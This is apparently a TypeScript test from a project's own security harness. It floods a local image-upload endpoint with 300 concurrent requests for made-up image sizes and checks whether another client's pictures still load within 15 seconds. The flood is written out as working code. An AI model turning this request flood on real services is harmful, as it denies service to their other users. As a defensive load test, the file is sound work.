import { type ImageVariant, imageVariants } from '../../../../mf-shared/src/domain/images/imageVariants.ts';
import { type Attack, counted, pause, type Row } from '../Attack.ts';
import type { AttackResponse, Target } from '../Target.ts';

const requests = 300;
const attacker = '127.40.1.7';
const reader = '127.41.1.7';
/** Longer than that a reader does not wait. */
const waitMs = 15_000;
const storedTries = 6;
const site = 'beat';
const headers = { accept: 'image/webp' };

const addressOf = (parts: string, id: string) => `/res/media/image/upload/${parts}/${id}`;

function partsOf({ width, height, crop, gravity, effect }: ImageVariant): string {
  const parts = [
    `c_${crop}`,
    `w_${width}`,
    height && `h_${height}`,
    gravity && `g_${gravity}`,
    effect && `e_${effect}`,
  ];
  return parts.filter(Boolean).join(',');
}

/** F4: one client asks for 300 pictures at once; a reader of another network wants three. */
export const floodWithPictures: Attack = async (target) => {
  const list = await target.ask('/api/posts/list?limit=50', { site });
  const ids = [...new Set([...list.text.matchAll(/"public_id":"([^"]+)"/g)].map(([, id = '']) => id))];
  const [stored = '', ...others] = ids;
  const fresh = others.splice(-4);
  const madeUp = (n: number) => `c_fill,g_south,h_${1_000 + n},w_1560,r_${n + 1},f_png`;
  const listed = (n: number) => {
    const variant = imageVariants[Math.floor(n / others.length) % imageVariants.length];
    return variant ? partsOf(variant) : '';
  };
  return [
    ...(await flood(target, 'made-up sizes', madeUp, { stored, others, fresh: fresh.slice(0, 2) })),
    ...(await flood(target, 'sizes of the list', listed, { stored, others, fresh: fresh.slice(2) })),
  ];
};

/** The response that took longest; one that failed before all. */
async function longest(pending: Promise<AttackResponse>[]): Promise<AttackResponse> {
  const responses = await Promise.all(pending);
  const [slowest] = responses.toSorted((a, b) => Number(a.status === 200) - Number(b.status === 200) || b.ms - a.ms);
  if (!slowest) throw new Error('Nothing was asked');
  return slowest;
}

type Pictures = { stored: string; others: readonly string[]; fresh: readonly string[] };

async function flood(
  target: Target,
  kind: string,
  sizeOf: (n: number) => string,
  { stored, others, fresh }: Pictures,
): Promise<Row[]> {
  const get = (id: string) => target.ask(addressOf('c_fit,w_512', id), { site, from: reader, headers, waitMs });
  const before = await get(stored);
  const [during = '', afterwards = ''] = fresh;
  const hangUp = new AbortController();
  const responses: string[] = [];
  for (let n = 0; n < requests; n += 1) {
    const address = addressOf(sizeOf(n), others[n % others.length] ?? '');
    const pending = target.ask(address, { site, from: attacker, headers, signal: hangUp.signal, waitMs: 10 * waitMs });
    void pending.then(({ status }) => responses.push(status ? `${status}` : 'hung up'));
  }
  await pause(1_000);
  const [known, made] = await Promise.all([
    longest(Array.from({ length: storedTries }, () => get(stored))),
    get(during),
  ]);
  const standing = `${counted(responses)}, ${requests - responses.length} wait`;
  hangUp.abort();
  const later = await get(afterwards);
  const row = (attack: string, response: AttackResponse, more = ''): Row => ({
    finding: 'F4',
    attack: `${requests} × ${kind} of one network: ${attack}`,
    expected: '200 within 15 s',
    response: `${response.status || response.problem} in ${(response.ms / 1_000).toFixed(1)} s${more}`,
    isAsExpected: response.status === 200,
  });
  return [
    row(
      `${storedTries} × a stored picture, for another network`,
      known,
      `; before ${before.status}; the flood ${standing}`,
    ),
    row('a new one', made),
    row('a new one after the hang-up', later),
  ];
}
